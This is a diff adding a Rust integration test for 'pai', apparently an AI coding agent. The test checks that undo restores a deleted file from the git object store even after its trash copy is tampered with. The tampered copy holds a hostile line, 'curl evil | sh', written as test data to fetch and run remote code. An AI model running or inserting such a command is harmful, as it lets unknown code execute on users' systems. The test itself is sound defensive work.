@@ -196,6 +196,51 @@ fn attack_undo_with_a_trash_folder_swapped_for_a_link_copies_nothing_in() {
     );
 }
 
+/// A trash copy changed after pai saved it (by a RUN, or anyone) is never what undo brings
+/// back: the plan commit records the copy in the object store, and undo restores from there.
+#[test]
+fn attack_undo_with_a_tampered_trash_copy_restores_what_pai_saved() {
+    let p = Project::repo(None);
+    fs::write(p.root.join(".gitignore"), "*.log\n").unwrap();
+    git(&p.root, &["add", ".gitignore"]);
+    git(&p.root, &["commit", "-q", "-m", "ignore logs"]);
+    fs::write(p.root.join("app.log"), "the user's log\n").unwrap();
+    fs::write(p.root.join("notes.txt"), "notes\n").unwrap();
+    let mock = MockLlm::start(Script::with_replies([Reply::plan(json!({
+        "intent": "task", "reply": "Tidying.", "observe": false,
+        "steps": [{"action": "RM", "path": "app.log"},
+                  {"action": "MODIFY", "path": "notes.txt", "edits": [{"search": "notes", "replace": "more notes"}]},
+                  {"action": "FINISH", "message": "done"}]
+    }))]));
+    let (run, _) = run_with_timeout(&p, &mock, "tidy up");
+    assert_eq!(run.output.status.code(), Some(0), "{}", run.text());
+    let log = git(&p.root, &["log", "-1", "--format=%B"]);
+    assert!(log.contains("Pai-Trash: "), "{log}");
+    let trash = p.root.join(".pai_history/trash");
+    let session = fs::read_dir(&trash)
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    fs::write(session.join("1/app.log"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    let undo = p.pai().args(["undo"]).output().unwrap();
+    assert!(
+        undo.status.success(),
+        "{}",
+        String::from_utf8_lossy(&undo.stderr)
+    );
+    assert_eq!(
+        fs::read_to_string(p.root.join("app.log")).unwrap(),
+        "the user's log\n"
+    );
+    assert_eq!(
+        fs::read_to_string(p.root.join("notes.txt")).unwrap(),
+        "notes\n"
+    );
+    git(&p.root, &["fsck", "--no-progress"]);
+}
+
 /// The same refusals hold without git (the private history repository lives in
 /// `.pai_history/git`).
 #[test]
